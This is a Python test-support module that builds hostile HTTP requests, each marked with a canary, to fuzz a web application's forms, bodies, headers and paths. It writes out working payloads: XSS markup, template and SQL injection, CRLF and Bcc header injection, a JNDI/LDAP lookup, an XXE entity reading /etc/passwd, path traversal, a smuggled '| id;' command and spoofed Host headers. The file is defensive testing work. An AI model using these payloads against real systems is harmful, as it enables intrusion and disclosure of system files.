"""Hostile input, as values, bodies, headers, paths and queries; the canary is in every one of them."""

from __future__ import annotations

import base64
import random
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from urllib.parse import quote, urlencode

from chalicelib.platform.web.body import FORM
from tests.support.builders import CANARY
from tests.support.crawler import BOXES, Fields, FormShown, Value

# What a template language would make of the sums below.
PRODUCT = str(7191 * 7193)

_MARKUP = (
    f"\"'><{CANARY} on{CANARY}='1'></textarea></title></select></style></script>-->]]>"
    f"<svg/onload={CANARY}><script>{CANARY}</script><img src=x onerror={CANARY}>&lt;&#60;"
)
_SUMS = "{{7191*7193}}{% if 1 %}${7191*7193}#{7191*7193}<%= 7191*7193 %>{{ self.__class__ }}"
_TEMPLATES = _SUMS + CANARY
_PLACEHOLDERS = "%s %(naam)s %n {0.__class__} {telefoon_gemeente} %% " + CANARY

VALUES: dict[str, Value] = {
    "markup": _MARKUP,
    "templates": _TEMPLATES,
    "placeholders": _PLACEHOLDERS,
    "attribute": f"\" autofocus onfocus={CANARY} x=\"' style='{CANARY}",
    "a header": f"{CANARY}\r\nSet-Cookie: {CANARY}=1\r\nX-{CANARY}: 1\r\n\r\n<{CANARY}>",
    "a mail header": f"{CANARY}@waterlijn.example\r\nBcc: {CANARY}@elders.example\r\n\r\n{CANARY}",
    "an encoded word": f"=?utf-8?q?{CANARY}=0d=0aBcc:_{CANARY}@elders.example?=@waterlijn.example",
    "a second address": f"{CANARY}@waterlijn.example, {CANARY}@elders.example",
    "a name and an address": f"{CANARY} <{CANARY}@elders.example>",
    "a NUL": f"{CANARY}\x00{CANARY}\x07\x1b[31m",
    "a lone surrogate": CANARY.encode() + b"\xed\xa0\x80" + CANARY.encode(),
    "no UTF-8": CANARY.encode() + b"\xff\xfe\xc3\x28\x80",
    "directions": f"\u202e{CANARY}\u2066\u200f\u0627\u061c\u2069",
    "nothing to see": f"\u200b\u200d\ufeff{CANARY}\u00ad\u2060\u180e\ufff9\U000e0041\u2028\u2029\u0085",
    "many marks": CANARY + "e" + "\u0301" * 2000 + "\ufdfa" * 500,
    "an address of a script": f"javascript:{CANARY}//\n//elders.example/{CANARY}",
    "paths and queries": f"../../../etc/passwd%00 ' OR 1=1 -- ${{jndi:ldap://{CANARY}}} | id; =1+1",
    "very long": (CANARY + " ") * 4_000,
    "nothing": "",
}
# One that has a bit of everything that could break a page, for where each value would be too many.
MIXED = f"{_MARKUP}{_TEMPLATES}{_PLACEHOLDERS}\u202e"


@dataclass(frozen=True)
class Attack:
    """One hostile request; ``what`` says to a person what is wrong with it."""

    what: str
    method: str
    path: str
    body: bytes | None = None
    headers: Mapping[str, str] = field(default_factory=dict)

    def __str__(self) -> str:
        return f"{self.method} {self.path[:80]} ({self.what})"


def posted(what: str, path: str, fields: Fields) -> Attack:
    body = urlencode(fields, doseq=True).encode()
    return Attack(what, "POST", path, body, {"Content-Type": FORM})


def on_a_page(form: FormShown, good: Mapping[str, list[str]]) -> Iterator[Attack]:
    """Every value in everything that is asked on a page; and each field alone with something bad."""
    asked = form.visible
    for what, value in VALUES.items() if asked else ():
        yield posted(f"{what} everywhere", form.path, {**good, **{name: [value] for name in asked}})
    for name in asked:
        yield posted(f"mixed in {name}", form.path, {**good, name: [MIXED]})


def on_what_travels_along(
    form: FormShown, good: Mapping[str, list[str]], asked: Mapping[str, str]
) -> Iterator[Attack]:
    """For a page that asks nothing: what was answered before, and what no visitor ever sees.

    ``asked`` has the kind of everything that was asked on an earlier page.
    """
    carried = list(form.controls)
    typed = [name for name in carried if asked.get(name) not in {None, *BOXES}]
    languages = [value for name, value in form.buttons if value.startswith("lang:")]
    for what, value in VALUES.items():
        fields: dict[str, Sequence[Value]] = {**good, **{name: [value] for name in typed}}
        yield posted(f"{what} in all texts, sent", form.path, fields)
    for name in [*carried, form.main[0]]:
        for button in languages:
            shown = {**good, form.main[0]: [button]}
            yield posted(f"mixed in {name}, in {button}", form.path, {**shown, name: [MIXED]})
        if name not in asked:
            for what, value in VALUES.items():
                yield posted(f"{what} in {name}", form.path, {**good, name: [value]})


def on_the_body(form: FormShown, good: Mapping[str, list[str]]) -> Iterator[Attack]:
    """Bodies that are no form, or a form that no browser would send."""
    name = next(iter(form.controls), form.main[0])
    own = urlencode(good, doseq=True).encode()
    bodies: dict[str, bytes] = {
        "an unknown field": own + f"&{quote(MIXED)}={CANARY}".encode(),
        "a name twice": own + f"&{name}={CANARY}&{name}={quote(MIXED)}".encode(),
        "a name with brackets": own + f"&{name}[]={CANARY}&{name}[{CANARY}]=1&{name}.x=1".encode(),
        "20.000 fields": b"&".join(f"{CANARY}{n}=1".encode() for n in range(20_000)),
        "no names": b"=&=&&;;&%&=%zz&" + CANARY.encode(),
        "random bytes": CANARY.encode() + random.Random(7).randbytes(2000),
        "100 kB in one": own.replace(CANARY.encode(), CANARY.encode() * 13_000, 1),
        "300 kB": own + b"&" + (CANARY + "x").encode() * 34_000,
        "nothing": b"",
    }
    for what, body in bodies.items():
        yield Attack(what, "POST", form.path, body, {"Content-Type": FORM})
    json = f'{{"{name}": "{CANARY}", "__proto__": {{"{CANARY}": 1}}}}'.encode()
    xml = f'<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;{CANARY}</x>'.encode()
    said = f'Content-Disposition: form-data; name="{name}"; filename="{CANARY}"'
    part = f"--{CANARY}\r\n{said}\r\n\r\nx\r\n--{CANARY}--".encode()
    types: dict[str, bytes] = {
        "application/json": json,
        "text/xml": xml,
        f"multipart/form-data; boundary={CANARY}": part,
        "application/octet-stream": b"\x00\xff" + own,
        "image/png": base64.b64encode(own),
        f"text/html; {CANARY}=<{CANARY}>": own,
        f"{FORM}; charset=utf-16; {CANARY}": own,
        f"{FORM}, application/json; {CANARY}": own,
        CANARY * 400: own,
        "": own,
    }
    for kind, body in types.items():
        yield Attack(f"as {kind[:60]}", "POST", form.path, body, {"Content-Type": kind})
    for site in ("cross-site", "same-site", CANARY):
        told = {"Content-Type": FORM, "Sec-Fetch-Site": site}
        yield Attack(f"from {site}", "POST", form.path, own, told)


METHODS = ("HEAD", "PUT", "OPTIONS", "TRACE", "DELETE", "PATCH", "POST")

HEADERS: tuple[Mapping[str, str], ...] = (
    {"Host": f"{CANARY}.example"},
    {"X-Forwarded-Host": f"{CANARY}.example", "X-Forwarded-Proto": "javascript"},
    {"X-Forwarded-For": f"{CANARY}, <{CANARY}>", "Forwarded": f"for={CANARY};host={CANARY}"},
    {"X-Original-URL": f"/{CANARY}", "X-Rewrite-URL": f"/{CANARY}"},
    {"X-HTTP-Method-Override": "DELETE", "X-Amzn-Trace-Id": CANARY},
    {"Accept": f"application/json, image/png, {CANARY}", "Accept-Language": CANARY},
    {"Accept": f",;=/{CANARY}" * 200},
    {"Accept": "application/octet-stream", "Accept-Encoding": f"gzip, {CANARY}"},
    {"User-Agent": MIXED.encode().decode("latin-1"), "Referer": f"https://{CANARY}.example/"},
    {"Cookie": f"{CANARY}={CANARY}; __Host-sid={CANARY}", "Authorization": f"Basic {CANARY}"},
    {"Origin": f"https://{CANARY}.example", "Access-Control-Request-Method": "POST"},
    {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Dest": "iframe", "Sec-Fetch-Mode": "navigate"},
)


def on_a_path(path: str, parameters: set[str]) -> Iterator[Attack]:
    """Methods, headers, queries and twists of a path that exists."""
    for method in METHODS:
        yield Attack("a method", method, f"{path}?{CANARY}=1", b"" if method == "POST" else None)
    for headers in HEADERS:
        yield Attack(f"with {', '.join(headers)}", "GET", path, None, headers)
    for name in sorted(parameters | {CANARY}):
        for value in (MIXED, VALUES["a header"], VALUES["no UTF-8"], VALUES["a NUL"]):
            yield Attack("a query", "GET", f"{path}?{urlencode({name: value})}")
    yield Attack("a query twice", "GET", f"{path}?lang=en&lang={quote(MIXED)}&lang[]={CANARY}")
    twists = ["//", f"/{CANARY}", f"/%2e%2e/{CANARY}", f"/..;/{CANARY}", f"/..%2f{CANARY}", "/%00"]
    for twist in twists + [f"%00{CANARY}", f"..;/{CANARY}"] * (path != "/"):
        yield Attack("a twisted path", "GET", f"{path.rstrip('/')}{twist}")


def on_a_part_of_a_path(path: str) -> Iterator[Attack]:
    """Every value as the last part of a path that has one."""
    before = path.rpartition("/")[0]
    parts = {**VALUES, "mixed": MIXED, "a placeholder": "{token}" + CANARY}
    for what, value in parts.items():
        # A server in front of ours may refuse a longer address by itself.
        address = f"{before}/{quote(value[:400], safe='')}"
        yield Attack(what, "GET", address)
        yield Attack(what, "POST", address, b"go=confirm", {"Content-Type": FORM})
